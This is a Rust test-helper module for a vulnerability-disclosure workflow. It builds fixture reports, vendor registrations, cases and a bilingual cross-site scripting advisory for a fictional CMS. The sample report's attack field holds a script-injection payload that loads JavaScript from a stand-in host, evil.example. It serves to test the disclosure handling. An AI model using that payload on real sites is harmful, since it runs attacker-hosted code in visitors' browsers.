//! A desk without a disk: files in memory, commands decided and carried out with all that follows,
//! all or nothing. Time moves when a test says so; ids are counted.

use std::collections::BTreeMap;

use handling::case::{self, AdvisoryDraft, AdvisoryText, AffectedProduct, Case, Reference};
use handling::register::{self, Vendor};
use handling::report::{
    self, Circumstances, Consent, Identity, InfoType, Kind, NewItem, Report, Submission, Target,
    Weakness,
};
use handling::{
    Actor, CaseId, Command, Context, Event, Fact, File, FinderFacts, Fresh, Moment, Party,
    PersonId, Refusal, RegisterFacts, ReportId, Rule, Settings, VendorId,
};
use jiff::{SignedDuration, Timestamp};
use uuid::Uuid;

/// One fact as the log would have it.
#[derive(Clone, Debug)]
pub struct Entry {
    pub file: Uuid,
    pub at: Timestamp,
    pub actor: Actor,
    pub rule: Rule,
    pub event: Event,
}

#[derive(Clone)]
pub struct World {
    pub now: Timestamp,
    pub settings: Settings,
    pub files: BTreeMap<Uuid, File>,
    pub log: Vec<Entry>,
    /// What was commanded: on which file, its name, and the part of the log that came of it.
    pub commands: Vec<(Option<Uuid>, String, std::ops::Range<usize>)>,
    count: u64,
}

pub fn person(n: u128) -> PersonId {
    PersonId(Uuid::from_u128(0x7000 + n))
}

pub fn reception() -> Actor {
    Actor::new(Party::Reception, person(1))
}
/// The coordinator's writer.
pub fn coordinator() -> Actor {
    Actor::new(Party::Coordinator, person(2))
}
/// The coordinator's second person.
pub fn reviewer() -> Actor {
    Actor::new(Party::Coordinator, person(3))
}
/// An account that applies for a developer.
pub fn applicant(n: u128) -> Actor {
    Actor::new(Party::Public, person(100 + n))
}
pub fn vendor_actor(vendor: VendorId, n: u128) -> Actor {
    Actor::new(Party::Vendor(vendor), person(100 + n))
}
pub fn finder(report: ReportId) -> Actor {
    Actor::new(Party::Finder(report), person(50))
}

impl World {
    pub fn new() -> Self {
        World {
            now: "2026-01-05T00:00:00Z".parse().expect("an instant"),
            settings: Settings::default(),
            files: BTreeMap::new(),
            log: Vec::new(),
            commands: Vec::new(),
            count: 0,
        }
    }

    pub fn pass_days(&mut self, days: i64) {
        self.now += SignedDuration::from_hours(24 * days);
    }

    pub fn in_days(&self, days: i64) -> Moment {
        Moment::tokyo(self.now + SignedDuration::from_hours(24 * days))
    }

    /// Carries a command out; on refusal nothing has happened.
    pub fn act(
        &mut self,
        file: Option<Uuid>,
        command: impl Into<Command>,
        actor: Actor,
    ) -> Result<Vec<Entry>, Refusal> {
        let before = self.clone();
        let from = self.log.len();
        let command = command.into();
        match self.carry_out(file, &command, actor) {
            Ok(()) => {
                let done = from..self.log.len();
                self.commands.push((file, name(&command), done));
                Ok(self.log[from..].to_vec())
            }
            Err(refusal) => {
                let count = self.count;
                *self = before;
                self.count = count;
                Err(refusal)
            }
        }
    }

    /// Like [`World::act`] on a file that is there, where a refusal is a mistake of the test.
    pub fn must(&mut self, file: Uuid, command: impl Into<Command>, actor: Actor) -> Vec<Entry> {
        let command = command.into();
        match self.act(Some(file), command.clone(), actor) {
            Ok(entries) => entries,
            Err(refusal) => panic!("{refusal:?} of {command:?}"),
        }
    }

    /// The refusal's code; `ok` or `nothing` when it is permitted.
    pub fn outcome(&self, file: Option<Uuid>, command: impl Into<Command>, actor: Actor) -> String {
        match self.clone().act(file, command, actor) {
            Ok(entries) if entries.is_empty() => "nothing".into(),
            Ok(_) => "ok".into(),
            Err(refusal) => refusal.code.into(),
        }
    }

    fn carry_out(
        &mut self,
        file: Option<Uuid>,
        command: &Command,
        actor: Actor,
    ) -> Result<(), Refusal> {
        self.count += 1;
        let register = self.register();
        let finders = file.map(|f| self.finders(f)).unwrap_or_default();
        let context = Context {
            now: self.now,
            settings: &self.settings,
            fresh: self.fresh(),
            register: &register,
            finders: &finders,
        };
        let state = file.and_then(|f| self.files.get(&f));
        let decision = handling::file::decide(state, command, &actor, &context)?;
        let target = file.unwrap_or_else(|| opened(&decision.facts));
        for fact in decision.facts {
            let state = self.files.remove(&target);
            let state = handling::file::evolve(state, &fact.event, self.now, &actor);
            self.files.insert(target, state.expect("a state"));
            self.log.push(Entry {
                file: target,
                at: self.now,
                actor,
                rule: fact.rule,
                event: fact.event,
            });
        }
        for next in decision.then {
            let there = self.files.contains_key(&next.file);
            let entry = there.then_some(next.file);
            self.carry_out(entry, &next.command, Actor::SYSTEM)?;
        }
        Ok(())
    }

    fn fresh(&self) -> Fresh {
        let seed = (u128::from(self.count) << 64) | 0xABCD_0000;
        Fresh {
            seed: Uuid::from_u128(seed),
        }
    }

    /// The id the next decision will draw first.
    pub fn next_id(&self) -> Uuid {
        let mut next = self.clone();
        next.count += 1;
        next.fresh().id(0)
    }

    pub fn register(&self) -> BTreeMap<VendorId, RegisterFacts> {
        let entries = self.files.values().filter_map(|file| match file {
            File::Vendor(vendor) => Some((vendor.id, vendor.facts())),
            _ => None,
        });
        entries.collect()
    }

    fn finders(&self, file: Uuid) -> Vec<FinderFacts> {
        let Some(File::Case(case)) = self.files.get(&file) else {
            return Vec::new();
        };
        let reports = case.reports.iter().filter_map(|r| self.files.get(&r.0));
        reports
            .filter_map(|file| match file {
                File::Report(report) => Some(FinderFacts {
                    identity: report.identity.value()?,
                    consent: report.consent,
                }),
                _ => None,
            })
            .collect()
    }

    pub fn report(&self, id: ReportId) -> &Report {
        match &self.files[&id.0] {
            File::Report(report) => report,
            other => panic!("{other:?}"),
        }
    }

    pub fn case(&self, id: CaseId) -> &Case {
        match &self.files[&id.0] {
            File::Case(case) => case,
            other => panic!("{other:?}"),
        }
    }

    pub fn case_mut(&mut self, id: CaseId) -> &mut Case {
        match self.files.get_mut(&id.0) {
            Some(File::Case(case)) => case,
            other => panic!("{other:?}"),
        }
    }

    pub fn vendor(&self, id: VendorId) -> &Vendor {
        match &self.files[&id.0] {
            File::Vendor(vendor) => vendor,
            other => panic!("{other:?}"),
        }
    }

    /// The file read again from its facts.
    pub fn replayed(&self, file: Uuid) -> Option<File> {
        let facts = self.log.iter().filter(|entry| entry.file == file);
        facts.fold(None, |state, e| {
            handling::file::evolve(state, &e.event, e.at, &e.actor)
        })
    }
}

fn name(command: &Command) -> String {
    let json = match command {
        Command::Report(c) => serde_json::to_value(c),
        Command::Case(c) => serde_json::to_value(c),
        Command::Vendor(c) => serde_json::to_value(c),
    };
    json.expect("JSON")["command"]
        .as_str()
        .expect("a name")
        .to_owned()
}

fn opened(facts: &[Fact]) -> Uuid {
    match facts.first().map(|fact| &fact.event) {
        Some(Event::Report(
            report::Event::Received { report, .. }
            | report::Event::ArrivedIncomplete { report, .. },
        )) => report.0,
        Some(Event::Case(case::Event::Opened { case, .. })) => case.0,
        Some(Event::Vendor(register::Event::Entered { vendor, .. })) => vendor.0,
        other => panic!("nothing was opened: {other:?}"),
    }
}

// ---- a report and its way -----------------------------------------------------------------

pub const FINDER_NAME: &str = "Hanako Yamada";
pub const FINDER_MAIL: &str = "hanako@finder.example";

pub fn item(info: InfoType, text: &str) -> NewItem {
    NewItem {
        info,
        text: text.into(),
        attachment: None,
    }
}

/// A whole report on a product.
pub fn submission() -> Submission {
    Submission {
        kind: Some(Kind::Product),
        identity: Identity {
            name: FINDER_NAME.into(),
            organisation: "Kitakaze Research".into(),
            email: FINDER_MAIL.into(),
            phone: "+81 90-1234-5678".into(),
            language: "ja".into(),
            ..Identity::default()
        },
        consent: Some(Consent::default()),
        target: Target {
            name: "Sazanami CMS".into(),
            version: "3.2".into(),
            maker: "Sazanami KK".into(),
            in_japan: Some(true),
            ..Target::default()
        },
        summary: "Comments are shown without escaping.".into(),
        weakness: Some(Weakness::CrossSiteScripting),
        items: vec![
            item(
                InfoType::Nature,
                "The comment field is shown as it was sent.",
            ),
            item(
                InfoType::Verification,
                "Send a comment with a heading tag and look at the page source of the article for the raw tag.",
            ),
            item(
                InfoType::Attack,
                "<script src=//evil.example/x.js></script>",
            ),
        ],
        circumstances: Circumstances {
            how_found: "While writing a comment.".into(),
            ..Circumstances::default()
        },
        notice_version: Settings::default().notice_version,
        ..Submission::default()
    }
}

impl World {
    pub fn submit(&mut self, submission: Submission, actor: Actor) -> ReportId {
        let entries = self
            .act(None, report::Command::Submit(submission), actor)
            .expect("a report");
        ReportId(entries[0].file)
    }

    pub fn received(&mut self) -> ReportId {
        self.submit(submission(), Actor::STRANGER)
    }

    /// An accepted report and its case.
    pub fn accepted(&mut self) -> (ReportId, CaseId) {
        let report = self.received();
        let accept = report::Command::Accept { cases: Vec::new() };
        self.must(report.0, accept, reception());
        (report, self.report(report).cases[0].case)
    }

    /// A registered developer, with one account.
    pub fn registered(&mut self, name: &str, n: u128) -> VendorId {
        let apply = register::Command::Apply {
            name_ja: name.into(),
            name_en: name.into(),
            contact: register::Contact {
                manager: "M. Contact".into(),
                email: format!("psirt{n}@vendor.example"),
                ..register::Contact::default()
            },
            read_standard: true,
        };
        let vendor = VendorId(self.act(None, apply, applicant(n)).expect("an entry")[0].file);
        let note = "Called back.".into();
        self.must(
            vendor.0,
            register::Command::OfferTerms { note },
            coordinator(),
        );
        let itself = vendor_actor(vendor, n);
        let version = self.settings.terms_version.clone();
        self.must(vendor.0, register::Command::AgreeTerms { version }, itself);
        self.must(vendor.0, upload_key(), itself);
        let answer = "ab".repeat(32);
        self.must(
            vendor.0,
            register::Command::AnswerKeyTest { answer },
            itself,
        );
        vendor
    }

    /// A case whose developer was told the summary.
    pub fn told(&mut self) -> (ReportId, CaseId, VendorId) {
        let vendor = self.registered("Sazanami KK", 1);
        let (report, case) = self.accepted();
        self.must(case.0, case::Command::Transfer, reception());
        self.must(case.0, case::Command::Begin, coordinator());
        let identify = case::Command::Identify {
            vendors: vec![case::Identification {
                vendor,
                reasoning: "It makes the product.".into(),
            }],
            rejected: Vec::new(),
        };
        self.must(case.0, identify, coordinator());
        let text = "A fault of output handling in a content management system.".into();
        self.must(case.0, case::Command::WriteSummary { text }, coordinator());
        let send = case::Command::SendSummary {
            vendors: vec![vendor],
        };
        self.must(case.0, send, coordinator());
        (report, case, vendor)
    }

    /// A case whose developers were told and hold the details; one is affected with a fix ready.
    pub fn coordinated(&mut self) -> (ReportId, CaseId, VendorId) {
        let (report, case, vendor) = self.told();
        self.details(case, vendor, 1);
        self.affected(case, vendor, 1);
        (report, case, vendor)
    }

    pub fn details(&mut self, case: CaseId, vendor: VendorId, n: u128) {
        let detail = case::Command::RequestDetail {
            persons: vec![person(100 + n)],
            secrecy_agreed: true,
            may_be_named: true,
        };
        let itself = vendor_actor(vendor, n);
        self.must(case.0, detail, itself);
        self.must(case.0, case::Command::StartVerification, itself);
    }

    pub fn affected(&mut self, case: CaseId, vendor: VendorId, n: u128) {
        let itself = vendor_actor(vendor, n);
        let answers = vec![case::NewAnswer {
            product: "Sazanami CMS".into(),
            versions: "3.0 to 3.2".into(),
            presence: case::Presence::Affected,
            novelty: Some(case::Novelty::New),
            ground: String::new(),
        }];
        self.must(
            case.0,
            case::Command::ReportVerification { answers },
            itself,
        );
        let measure = case::Command::ReportMeasure {
            kind: case::MeasureKind::Fix,
            text: "Version 3.3 escapes comments.".into(),
            url: "https://vendor.example/cms/3.3".into(),
        };
        self.must(case.0, measure, itself);
    }

    /// The date is set, 30 days from now.
    pub fn dated(&mut self) -> (ReportId, CaseId, VendorId) {
        let (report, case, vendor) = self.coordinated();
        self.set_date(case);
        (report, case, vendor)
    }

    pub fn set_date(&mut self, case: CaseId) {
        let set = case::Command::SetDate {
            end: self.in_days(30),
            factors: case::DateFactors {
                results: "One affected.".into(),
                countermeasure_time: "Ready.".into(),
                overseas: "None.".into(),
                leak_risk: "Small.".into(),
                precedent: "Usual.".into(),
            },
            late: None,
        };
        self.must(case.0, set, coordinator());
    }

    /// Drafted, reviewed and approved.
    pub fn scheduled(&mut self) -> (ReportId, CaseId, VendorId) {
        let (report, case, vendor) = self.dated();
        self.approve(case);
        (report, case, vendor)
    }

    pub fn approve(&mut self, case: CaseId) {
        let draft = draft();
        self.must(case.0, case::Command::WriteDraft { draft }, coordinator());
        self.must(
            case.0,
            case::Command::SubmitDraft { waiver: None },
            coordinator(),
        );
        self.must(case.0, case::Command::ApproveDraft, reviewer());
    }

    pub fn published(&mut self) -> (ReportId, CaseId, VendorId) {
        let (report, case, vendor) = self.scheduled();
        self.pass_days(30);
        self.must(case.0, case::Command::Publish, Actor::SYSTEM);
        (report, case, vendor)
    }

    /// A developer's report on its own product; reception has checked it.
    pub fn own_product(&mut self) -> (ReportId, CaseId, VendorId) {
        let vendor = self.registered("Sazanami KK", 1);
        let own = Submission {
            kind: Some(Kind::OwnProduct),
            countermeasure: Some("Version 3.3 escapes comments.".into()),
            own_products_only: true,
            ..submission()
        };
        let report = self.submit(own, vendor_actor(vendor, 1));
        let accept = report::Command::Accept { cases: Vec::new() };
        self.must(report.0, accept, reception());
        (report, self.report(report).cases[0].case, vendor)
    }
}

pub fn upload_key() -> register::Command {
    register::Command::UploadKey {
        fingerprint: "0123456789ABCDEF0123456789ABCDEF01234567".into(),
        armoured: "-----BEGIN PGP PUBLIC KEY BLOCK-----\nxx\n-----END PGP PUBLIC KEY BLOCK-----"
            .into(),
        challenge: "ab".repeat(32),
    }
}

/// An advisory as it should be.
pub fn draft() -> AdvisoryDraft {
    AdvisoryDraft {
        ja: AdvisoryText {
            title: "Sazanami CMS におけるクロスサイトスクリプティングの脆弱性".into(),
            summary: "Sazanami CMS には、クロスサイトスクリプティングの脆弱性が存在します。".into(),
            version_check: "管理画面の右下に表示されます。".into(),
            description: "出力処理の不備により、クロスサイトスクリプティングの脆弱性が存在します。"
                .into(),
            impact: "閲覧した利用者のブラウザ上で、任意のスクリプトが実行される可能性があります。"
                .into(),
            solution: "開発者の情報をもとに 3.3 へアップデートしてください。".into(),
            workaround: "回避策は知られていません。".into(),
            contact: "psirt@vendor.example 平日 9 時から 17 時".into(),
            ..AdvisoryText::default()
        },
        en: AdvisoryText {
            title: "Sazanami CMS vulnerable to cross-site scripting".into(),
            summary: "Sazanami CMS contains a cross-site scripting vulnerability.".into(),
            version_check: "It is shown at the lower right of the console.".into(),
            description: "Improper output handling leads to a cross-site scripting vulnerability."
                .into(),
            impact: "An arbitrary script may be executed on the web browser of a visitor.".into(),
            solution: "Update to 3.3 according to the developer's information.".into(),
            workaround: "No workaround is known.".into(),
            contact: "psirt@vendor.example".into(),
            ..AdvisoryText::default()
        },
        affected: vec![AffectedProduct {
            vendor: "Sazanami KK".into(),
            product: "Sazanami CMS".into(),
            versions: "3.0 to 3.2".into(),
            cpe: String::new(),
        }],
        cve: vec!["CVE-2026-12345".into()],
        cwe: vec![79],
        cvss3: "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N".into(),
        references: vec![Reference {
            title: "Developer's notice".into(),
            url: "https://vendor.example/notices/1".into(),
        }],
        ..AdvisoryDraft::default()
    }
}
